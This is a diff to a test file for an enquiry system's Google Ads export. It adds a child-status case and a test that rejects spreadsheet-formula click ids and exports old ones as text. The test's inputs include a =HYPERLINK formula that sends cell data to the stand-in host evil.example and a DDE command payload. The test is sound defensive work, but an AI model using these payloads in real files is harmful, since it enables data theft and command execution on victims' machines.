@@ -121,7 +121,13 @@ describe.each(enginesUnderTest())('the ads on the desk on $name', ({ open }) => 
       { gclid: 'Cj0KCQiA-child' },
       { enquirer: 'student', studentUnder18: true, parentName: 'Rekha Verma', parentPhone: '9000009999' },
     );
-    for (const id of [neet, jee, noClick, declined, child]) await setStatus(id, 'enrolled');
+    // A class 9 student is a child, box ticked or not.
+    const classNine = await enquire(
+      'foundation',
+      { gclid: 'Cj0KCQiA-class-nine' },
+      { enquirer: 'student', classLevel: '9' },
+    );
+    for (const id of [neet, jee, noClick, declined, child, classNine]) await setStatus(id, 'enrolled');
     await setStatus(notEnrolled, 'visit-booked');
     // Enrolled on 20 November at 15:04:05 India time (09:34:05 UTC), and just after midnight on the 22nd there.
     await enrolledAt(jee, '2026-11-21T18:30:00.000Z');
@@ -171,6 +177,44 @@ describe.each(enginesUnderTest())('the ads on the desk on $name', ({ open }) => 
       .where('action', '=', 'export')
       .execute();
     expect(trail).toContainEqual({ action: 'export', field: 'google-ads', to_value: '2' });
+  });
+
+  it('keeps no click id that is a formula, from the form or from the page a form was posted from; an old one leaves as text', async () => {
+    const formula = '=HYPERLINK("https://evil.example/?leak="&B3,"Click to verify")';
+    const fromForm = await enquire('jee', { gclid: formula, utmSource: 'google' });
+    const fromLink = await app.inject({
+      method: 'POST',
+      url: '/api/enquiries',
+      headers: {
+        'content-type': 'application/x-www-form-urlencoded',
+        host: 'localhost:80',
+        referer: `http://localhost:80/courses/jee?gclid=${encodeURIComponent("=cmd|' /C calc'!A0")}&fbclid=%40SUM(1%2B1)`,
+      },
+      payload: new URLSearchParams({
+        studentName: 'Ravi Verma',
+        phone: '9000002001',
+        classLevel: '12',
+        course: 'jee',
+        consent: 'true',
+      }).toString(),
+    });
+    expect(fromLink.statusCode).toBe(303);
+    const stored = await database.db
+      .selectFrom('enquiries')
+      .select(['gclid', 'fbclid', 'utm_source', 'landing_page'])
+      .orderBy('created_at')
+      .execute();
+    // The enquiries are kept, and what else their visits said; only the false click ids are not.
+    expect(stored).toEqual([
+      { gclid: null, fbclid: null, utm_source: 'google', landing_page: null },
+      { gclid: null, fbclid: null, utm_source: null, landing_page: '/courses/jee' },
+    ]);
+
+    // One stored before click ids were checked still reaches the file as text, not as a formula.
+    await database.db.updateTable('enquiries').set({ gclid: '+1+1' }).where('id', '=', fromForm).execute();
+    await setStatus(fromForm, 'enrolled');
+    const lines = (await get(EXPORT, admin)).body.split('\r\n');
+    expect(lines[2]).toMatch(/^'\+1\+1,Enrolment \(desk\),/);
   });
 
   it('is for admins: a counsellor is refused (403), nobody signed in too (401)', async () => {
